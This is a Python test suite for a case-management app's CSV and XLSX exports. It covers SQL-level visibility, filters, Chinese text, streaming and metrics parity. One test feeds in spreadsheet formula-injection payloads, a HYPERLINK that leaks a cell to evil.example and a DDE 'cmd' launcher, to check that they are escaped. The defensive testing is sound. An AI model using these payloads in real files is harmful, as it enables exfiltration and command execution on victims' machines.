"""Exports of cases and metrics (engine/exports.py, engine/api/exports.py): only the
cases the caller may see, decided in SQL; the filters; Chinese text through CSV
(with its byte order mark) and XLSX; formulas neutralised; streamed in keyset
chunks; metrics equal to the API's. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from flask import Flask
from sqlalchemy import event, update
from werkzeug.test import TestResponse

from caseloop import exports
from caseloop.extension import state
from caseloop.facts import Answer
from caseloop.models import Case, Team

from .test_views_inbox import new_case, person

Headers = dict[str, str]
CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# -- helpers --------------------------------------------------------------------------------
def get(app: Flask, url: str, headers: Headers, status: int = 200) -> TestResponse:
    resp = app.test_client().get(url, headers=headers)
    assert resp.status_code == status, resp.get_data(as_text=True)[:500]
    return resp


def csv_table(resp: TestResponse) -> list[dict[str, str]]:
    assert resp.content_type == CSV_TYPE
    raw = resp.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def xlsx_table(resp: TestResponse) -> list[dict[str, Any]]:
    assert resp.content_type == XLSX_TYPE
    assert resp.headers["Content-Length"] == str(len(resp.get_data()))
    book = openpyxl.load_workbook(io.BytesIO(resp.get_data()), read_only=True)
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    header = [str(h) for h in rows[0]]
    return [dict(zip(header, r, strict=True)) for r in rows[1:]]


def references(app: Flask, headers: Headers, query: str = "") -> list[str]:
    """The references of a CSV export, and the XLSX export agreeing with it."""
    found = [r["reference"] for r in csv_table(
        get(app, f"/api/exports/cases.csv{query}", headers))]
    sheet = [r["reference"] for r in xlsx_table(
        get(app, f"/api/exports/cases.xlsx{query}", headers))]
    assert sheet == found
    return found


def change(app: Flask, case_id: int, **values: Any) -> None:
    with app.app_context():
        session = state().db.session
        session.execute(update(Case).where(Case.id == case_id).values(**values))
        session.commit()


def team_id(app: Flask, name: str) -> int:
    with app.app_context():
        session = state().db.session
        team = session.query(Team).filter_by(name=name).one_or_none()
        if team is None:
            team = Team(name=name)
            session.add(team)
            session.commit()
        return team.id


@contextmanager
def case_queries(app: Flask) -> Iterator[list[str]]:
    """The SQL statements reading caseloop_cases while inside."""
    seen: list[str] = []

    def record(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        if statement.lstrip().upper().startswith("SELECT") and "caseloop_cases" in statement:
            seen.append(statement)

    with app.app_context():
        engine = state().db.engine
    event.listen(engine, "before_cursor_execute", record)
    try:
        yield seen
    finally:
        event.remove(engine, "before_cursor_execute", record)


# -- visibility -----------------------------------------------------------------------------
def test_an_agent_exports_their_teams_cases_and_a_manager_all(
        any_db_app: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
    app = any_db_app
    sue = person(app, "sue", roles=("supervisor",), teams=("intake",))
    alice = person(app, "alice", teams=("care",))
    otto = person(app, "otto", teams=("billing",))
    boss = person(app, "boss", roles=("manager",), teams=())
    made = [new_case(app, sue) for _ in range(4)]  # in her team, intake
    for i, c in enumerate(made):
        change(app, c["id"], team_id=team_id(app, "billing" if i == 2 else "care"))
    care = [made[0]["reference"], made[1]["reference"], made[3]["reference"]]
    assert references(app, alice) == care
    assert references(app, otto) == [made[2]["reference"]]
    assert references(app, boss) == [c["reference"] for c in made]
    assert references(app, sue) == [c["reference"] for c in made]  # she opened them
    nobody = person(app, "nobody", teams=())
    assert references(app, nobody) == []
    # The rule is in the SQL: with one case per chunk, Otto's export reads his one
    # case and an empty chunk, never the cases he may not see.
    monkeypatch.setattr(exports, "CHUNK", 1)
    with case_queries(app) as seen:
        rows = csv_table(get(app, "/api/exports/cases.csv", otto))
    assert [r["reference"] for r in rows] == [made[2]["reference"]]
    assert len(seen) == 2


# -- filters --------------------------------------------------------------------------------
def test_filters_narrow_the_export_and_bad_ones_are_json_errors(any_db_app: Flask) -> None:
    app = any_db_app
    boss = person(app, "boss", roles=("manager",), teams=())
    sue = person(app, "sue", roles=("supervisor",), teams=("care",))
    phone = new_case(app, sue, channel="phone", category="billing")
    web = new_case(app, sue, segment="high_value")
    late = new_case(app, sue, channel="phone")
    # 17:00 UTC on 1 March is 2 March in Shanghai (the site's zone) and 1 March in London.
    change(app, phone["id"], created_at=dt.datetime(2026, 3, 1, 17, tzinfo=dt.UTC))
    change(app, web["id"], created_at=dt.datetime(2026, 3, 1, 12, tzinfo=dt.UTC))
    change(app, late["id"], created_at=dt.datetime(2026, 4, 1, 12, tzinfo=dt.UTC),
           state="closed", closed=True, team_id=team_id(app, "billing"))
    refs = {c["id"]: c["reference"] for c in (phone, web, late)}
    ids = {v: k for k, v in refs.items()}

    def found(query: str) -> list[int]:
        return [ids[r] for r in references(app, boss, query)]

    everyone = [phone["id"], web["id"], late["id"]]
    assert found("") == everyone
    assert found("?workflow=complaint") == everyone
    assert found("?workflow=revisit") == []
    assert found("?channel=phone") == [phone["id"], late["id"]]
    assert found("?category=billing") == [phone["id"]]
    assert found("?segment=high_value") == [web["id"]]
    assert found("?team=billing") == [late["id"]]
    assert found("?team=care") == [phone["id"], web["id"]]
    assert found("?state=closed") == found("?open=false") == [late["id"]]
    assert found("?open=true") == [phone["id"], web["id"]]
    assert found("?from=2026-03-02&to=2026-03-31") == [phone["id"]]
    assert found("?from=2026-03-01&to=2026-03-01") == [web["id"]]
    assert found("?from=2026-03-01&to=2026-03-01&tz=Europe/London") == [phone["id"],
                                                                         web["id"]]
    assert found("?from=2026-03-15") == [late["id"]]
    assert found("?to=2026-03-31&channel=phone") == [phone["id"]]
    change(app, web["id"], assignee_id=_user_id(app, "sue"))
    assert found("?assignee=sue") == [web["id"]]
    assert [r["reference"] for r in csv_table(
        get(app, "/api/exports/cases.csv?assignee=me", sue))] == [web["reference"]]
    # Mistakes answer before any byte of a file: JSON, 422, the field named.
    for query, field in (("?color=red", "color"), ("?from=2026-03-05&to=2026-03-01", "from"),
                         ("?from=yesterday", "from"), ("?team=nope", "team"),
                         ("?assignee=nope", "assignee"), ("?workflow=nope", "workflow"),
                         ("?tz=Mars/Olympus", "tz"), ("?open=maybe", "open")):
        for ext in ("csv", "xlsx"):
            resp = get(app, f"/api/exports/cases.{ext}{query}", boss, 422)
            assert resp.is_json and field in resp.get_json()["error"]["fields"], query
    assert get(app, "/api/exports/cases.csv", {}, 401).is_json


def _user_id(app: Flask, name: str) -> int:
    from caseloop.models import User

    with app.app_context():
        user = state().db.session.query(User).filter_by(name=name).one()
        return user.id


# -- columns and values ---------------------------------------------------------------------
def test_columns_and_a_chinese_case_round_trip_through_csv_and_xlsx(any_db_app: Flask
                                                                    ) -> None:
    app = any_db_app
    sue = person(app, "sue", roles=("supervisor",), teams=("care",))
    case = new_case(app, sue, customer_name="李伟", subject="包裹晚到五天，盒子压坏了")
    today = dt.datetime.now(ZoneInfo("Asia/Shanghai")).date().isoformat()
    plain = get(app, "/api/exports/cases.csv", sue)
    assert plain.is_streamed
    assert plain.headers["Content-Disposition"] == \
        f'attachment; filename="caseloop-cases-{today}.csv"'
    assert plain.headers["Cache-Control"] == "no-store"
    rows = csv_table(plain)
    assert list(rows[0]) == list(exports.CASE_COLUMNS)  # no form fields without a workflow
    row = rows[0]
    assert row["reference"] == case["reference"] and row["workflow"] == "complaint"
    assert (row["state"], row["closed"], row["team"], row["assignee"]) == (
        "received", "false", "care", "")
    assert (row["channel"], row["category"], row["reopened"]) == ("web", "delivery", "0")
    assert row["created_at"] == case["created_at"] and row["created_at"].endswith("Z")

    resp = get(app, "/api/exports/cases.csv?workflow=complaint", sue)
    assert resp.headers["Content-Disposition"] == \
        f'attachment; filename="caseloop-cases-complaint-{today}.csv"'
    row = csv_table(resp)[0]
    assert row["data.customer_name"] == "李伟"
    assert row["data.subject"] == "包裹晚到五天，盒子压坏了"
    with app.app_context():
        wf = state().registry.workflow("complaint")
        assert wf is not None
        names = [f.name for f in wf.form.fields]
    assert list(row) == [*exports.CASE_COLUMNS, *("data." + n for n in names)]

    resp = get(app, "/api/exports/cases.xlsx?workflow=complaint", sue)
    assert resp.is_streamed
    assert resp.headers["Content-Disposition"] == \
        f'attachment; filename="caseloop-cases-complaint-{today}.xlsx"'
    cells = xlsx_table(resp)[0]
    assert cells["data.customer_name"] == "李伟"
    assert cells["data.subject"] == "包裹晚到五天，盒子压坏了"
    assert cells["closed"] is False and cells["reopened"] == 0  # typed cells
    assert cells["created_at"] == case["created_at"]


def test_formulas_are_neutralised_in_csv_and_xlsx(any_db_app: Flask) -> None:
    app = any_db_app
    sue = person(app, "sue", roles=("supervisor",), teams=("care",))
    attacks = {"subject": '=HYPERLINK("http://evil.example/?"&A1,"Details")',
               "customer_name": "@SUM(1+1)*cmd|' /C calc'!A0",
               "description": "+1+1 and then some more words to pass the minimum length",
               "remedy_sought": "-2+3"}
    new_case(app, sue, **attacks)
    row = csv_table(get(app, "/api/exports/cases.csv?workflow=complaint", sue))[0]
    for name, text in attacks.items():
        assert row[f"data.{name}"] == "'" + text
    resp = get(app, "/api/exports/cases.xlsx?workflow=complaint", sue)
    book = openpyxl.load_workbook(io.BytesIO(resp.get_data()))
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    for name, text in attacks.items():
        cell = sheet.cell(row=2, column=header.index(f"data.{name}") + 1)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    with zipfile.ZipFile(io.BytesIO(resp.get_data())) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere


def test_cells_as_text() -> None:
    for start in exports.FORMULA_START:
        assert exports.csv_cell(start + "x") == "'" + start + "x"
    assert exports.csv_cell("a=b") == "a=b" and exports.csv_cell("") == ""
    assert exports.csv_cell(-5) == "-5" and exports.csv_cell(-0.5) == "-0.5"  # numbers
    assert exports.csv_cell(None) == "" and exports.csv_cell(True) == "true"
    assert exports.csv_cell(["apology", "券"]) == '["apology", "券"]'
    assert exports.csv_cell({"b": 1, "a": "-x"}) == '{"a": "-x", "b": 1}'
    assert exports.csv_cell(dt.datetime(2026, 3, 1, 8, tzinfo=ZoneInfo("Asia/Shanghai"))) \
        == "2026-03-01T00:00:00Z"
    assert exports.csv_cell(dt.date(2026, 3, 1)) == "2026-03-01"


def test_a_full_sheet_continues_on_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "XLSX_ROWS", 3)  # a header and two rows per sheet
    out = io.BytesIO()
    rows = [[i, f"行{i}", 2**60 if i == 4 else None] for i in range(5)]
    assert exports.write_xlsx(out, ["n", "text", "big"], rows, sheet="cases") == 5
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["cases", "cases (2)", "cases (3)"]
    values = [r for s in book.worksheets for r in s.iter_rows(values_only=True)]
    assert values.count(("n", "text", "big")) == 3
    assert [r for r in values if r[0] != "n"] == [
        (0, "行0", None), (1, "行1", None), (2, "行2", None), (3, "行3", None),
        (4, "行4", str(2**60))]  # too large for a double: kept exact, as text
    empty = io.BytesIO()
    assert exports.write_xlsx(empty, ["n"], [], sheet="cases") == 0
    assert list(openpyxl.load_workbook(empty).worksheets[0].values) == [("n",)]


# -- streaming ------------------------------------------------------------------------------
def test_exports_stream_in_keyset_chunks(any_db_app: Flask,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    app = any_db_app
    sue = person(app, "sue", roles=("supervisor",), teams=("care",))
    made = [new_case(app, sue)["reference"] for _ in range(5)]
    monkeypatch.setattr(exports, "CHUNK", 2)
    monkeypatch.setattr(exports, "CSV_PIECE", 1)  # a piece per row: a real stream
    with case_queries(app) as seen:
        resp = app.test_client().get("/api/exports/cases.csv", headers=sue, buffered=False)
        try:  # closed whatever happens: an open stream holds its transaction open
            assert resp.status_code == 200 and resp.is_streamed
            pieces = list(resp.response)
        finally:
            resp.close()
    assert len(pieces) == 1 + 5  # the header at once, then a piece per case
    rows = list(csv.DictReader(io.StringIO(b"".join(pieces).decode("utf-8-sig"))))
    assert [r["reference"] for r in rows] == made  # each once, in id order
    assert len(seen) == 3  # chunks of 2, 2 and 1: the short one ends it
    assert all("LIMIT" in s.upper() for s in seen)
    with case_queries(app) as seen:
        assert references(app, sue) == made
    assert len(seen) == 2 * 3
    monkeypatch.setattr(exports, "CHUNK", 5)  # exactly one full chunk: one empty read
    with case_queries(app) as seen:
        assert [r["reference"] for r in csv_table(
            get(app, "/api/exports/cases.csv", sue))] == made
    assert len(seen) == 2


# -- metrics --------------------------------------------------------------------------------
def _answers(app: Flask, cases: list[dict[str, Any]]) -> None:
    """Scored answers for some complaints: NPS and CSAT, two channels."""
    now = dt.datetime.now(dt.UTC)
    with app.app_context():
        session = state().db.session
        for i, c in enumerate(cases):
            channel = "phone" if i % 2 else "web"
            session.add(Answer(case_id=c["id"], workflow="complaint", field="nps",
                               metric="nps", value=(10, 9, 3, 7, 10)[i % 5], low=0, high=10,
                               answered_at=now - dt.timedelta(days=i), channel=channel,
                               category="delivery"))
            session.add(Answer(case_id=c["id"], workflow="complaint", field="csat",
                               metric="csat", report="top2box", value=(5, 4, 2)[i % 3],
                               low=1, high=5, answered_at=now - dt.timedelta(days=i),
                               channel=channel, category="delivery"))
        session.commit()


def _number(text: Any) -> Any:
    if text in ("", None):
        return None
    if isinstance(text, str) and text in ("true", "false"):
        return text == "true"
    return float(text) if isinstance(text, str) else text


def test_metrics_export_equals_the_api(any_db_app: Flask) -> None:
    app = any_db_app
    sue = person(app, "sue", roles=("supervisor",), teams=("care",))
    alice = person(app, "alice", teams=("care",))
    cases = [new_case(app, sue, channel=("web", "phone")[i % 2]) for i in range(6)]
    _answers(app, cases)
    query = "?from=2020-01-01&group_by=channel&workflow=complaint"
    expected: list[tuple[Any, ...]] = []
    for report in ("satisfaction", "operations"):
        answer = get(app, f"/api/metrics/{report}{query}", sue).get_json()
        for group in answer["groups"]:
            for name, m in group["metrics"].items():
                low, high = m["ci95"] or (None, None)
                expected.append((report, group["key"], name, m["value"], m["n"], low, high,
                                 m["small_sample"], m["counts"]))
        if "backlog" in answer:
            total = sum(answer["backlog"].values())
            expected.append((report, None, "backlog", total, total, None, None, None,
                             answer["backlog"]))
    assert any(e[2] == "nps" and e[3] is not None for e in expected)
    expected.sort(key=str)  # the API's JSON has its keys sorted; the file, as computed

    def rows_of(table: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
        assert {(r["from"], r["to"], r["workflow"], r["group_by"]) for r in table} == {
            ("2020-01-01", dt.datetime.now(ZoneInfo("Asia/Shanghai")).date().isoformat(),
             "complaint", "channel")}
        return sorted(((r["report"], r["group"] or None, r["metric"], _number(r["value"]),
                        int(_number(r["n"])), _number(r["ci95_low"]),
                        _number(r["ci95_high"]), _number(r["small_sample"]),
                        json.loads(r["counts"])) for r in table), key=str)

    resp = get(app, f"/api/exports/metrics.csv{query}", sue)
    assert resp.is_streamed
    assert resp.headers["Content-Disposition"].startswith(
        'attachment; filename="caseloop-metrics-')
    assert rows_of(csv_table(resp)) == expected
    assert rows_of(xlsx_table(get(app, f"/api/exports/metrics.xlsx{query}", sue))) == expected
    # The metrics API's rights and checks, as JSON before any file.
    for ext in ("csv", "xlsx"):
        assert get(app, f"/api/exports/metrics.{ext}", alice, 403).is_json
        bad = get(app, f"/api/exports/metrics.{ext}?group_by=colour", sue, 422)
        assert "group_by" in bad.get_json()["error"]["fields"]
        many = get(app, f"/api/exports/metrics.{ext}?from=2000-01-01&group_by=day", sue, 422)
        assert "group_by" in many.get_json()["error"]["fields"]


def test_exports_are_in_the_openapi_document(app: Flask) -> None:
    document = app.test_client().get("/api/openapi.json").get_json()
    for ext, mime in (("csv", "text/csv"), ("xlsx", XLSX_TYPE)):
        cases = document["paths"][f"/api/exports/cases.{ext}"]["get"]
        assert mime in cases["responses"]["200"]["content"]
        assert {"workflow", "state", "from", "to", "team", "channel", "category"} <= {
            p["name"] for p in cases["parameters"] if p["in"] == "query"}
        assert "403" in document["paths"][f"/api/exports/metrics.{ext}"]["get"]["responses"]
